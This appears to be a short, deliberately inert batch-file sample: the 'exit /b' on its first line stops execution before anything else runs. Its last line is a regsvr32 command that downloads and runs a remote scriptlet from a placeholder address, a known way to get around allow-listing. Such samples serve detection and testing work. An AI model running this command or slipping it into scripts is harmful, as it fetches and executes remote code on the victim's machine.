exit /b
rem inert sample
regsvr32 /s /n /u /i:http://192.0.2.52/a.sct scrobj.dll
